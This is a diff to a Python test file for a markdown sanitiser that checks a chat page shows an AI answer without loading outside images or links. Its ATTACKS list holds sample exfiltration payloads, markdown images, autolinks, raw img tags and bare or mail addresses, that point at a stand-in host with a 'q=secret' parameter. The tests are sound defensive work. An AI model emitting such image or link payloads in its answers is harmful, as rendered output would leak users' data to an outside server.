@@ -11,7 +11,7 @@ import re
 import pytest
 from markdown_it import MarkdownIt
 
-from mactuner.safe_text import safe_markdown
+from mactuner.safe_text import JOINER, safe_markdown
 
 LEAK = "![status](https://outside.example/leak?q=secret)"
 ATTACKS = [
@@ -20,7 +20,7 @@ ATTACKS = [
     "<https://outside.example/auto?q=secret>",
     '<img src="https://outside.example/raw.png?q=secret">',
     "![ref][r]\n\n[r]: https://outside.example/ref.png?q=secret",
-    "Visit https://outside.example/bare?q=secret or www.outside.example/www now.",
+    "Visit https://outside.example/bare?q=secret or www.outside.example/www now, or mail me@outside.example.",
     "an escaped \\![x](https://outside.example/esc.png) one",
     "> quoted ![q](https://outside.example/quote.png)",
     "- item ![i](https://outside.example/list.png)",
@@ -44,7 +44,7 @@ def test_safe_markdown_renders_no_image_link_or_html(text):
     # the bare addresses GitHub-flavoured Markdown (Streamlit's) links are broken up in the source
     # (they render as the same text), except inside a fenced code block, which is never a link
     outside_code = re.sub(r"(?ms)^```\n.*?(^```\n?|\Z)", "", safe)
-    assert not re.search(r"(^|[^\\]):/", outside_code) and "www." not in outside_code, safe
+    assert not re.search(r"(?i)(https?|mailto|xmpp):|www\.|\w@\w", outside_code), safe
 
 
 def test_safe_markdown_keeps_the_words_and_the_formatting():
@@ -52,7 +52,8 @@ def test_safe_markdown_keeps_the_words_and_the_formatting():
     html = render(safe_markdown(text))
     assert "<strong>Paris</strong>" in html and "<li>one [1]</li>" in html and "<li>two &lt;b&gt;</li>" in html
     assert "x = [1, 2]  # &lt;keep&gt;" in html  # code is left as it was
-    assert render(safe_markdown(LEAK)).strip() == "<p>![status](https://outside.example/leak?q=secret)</p>"
+    shown = render(safe_markdown(LEAK)).strip()
+    assert shown.replace(JOINER, "") == "<p>![status](https://outside.example/leak?q=secret)</p>"  # reads the same
     assert safe_markdown("") == ""
 
 
@@ -63,7 +64,7 @@ def test_chat_page_shows_a_leaking_answer_without_any_outside_request(mactuner_h
     from tests.browser import browser_page, running_app, wait_for_app
 
     question, reply = new_turn("What is the status?")
-    reply["answers"]["base"] = "\n\n".join(ATTACKS)
+    reply["answers"]["base"] = "\n\n".join(["Here is the status."] + ATTACKS + ["End of the status."])
     save_history(history_key(DEFAULT_MODEL), [question, reply], model=DEFAULT_MODEL)
     with running_app({"MACTUNER_HOME": str(mactuner_home)}) as url, browser_page() as page:
         requests: list[str] = []
@@ -71,13 +72,14 @@ def test_chat_page_shows_a_leaking_answer_without_any_outside_request(mactuner_h
         page.goto(url + "/chat")
         wait_for_app(page)
         answer = page.locator('[data-testid="stChatMessage"]').nth(1)
-        answer.get_by_text("![status]").first.wait_for()
+        answer.get_by_text("End of the status.").wait_for()
         page.wait_for_timeout(1500)  # time for any image to be asked for
         html = answer.inner_html()
     outside = [r for r in requests if not r.startswith(url) and not r.startswith("data:")]
     assert outside == []
     assert "outside.example" in html  # shown as text…
-    assert "outside.example" not in _attributes(html, "img") + _attributes(html, "a")  # …never as an image or a link
+    tags = _attributes(html, "img") + _attributes(html, "a")
+    assert "outside.example" not in tags, tags  # …never as an image or a link
 
 
 def _attributes(html: str, tag: str) -> str:
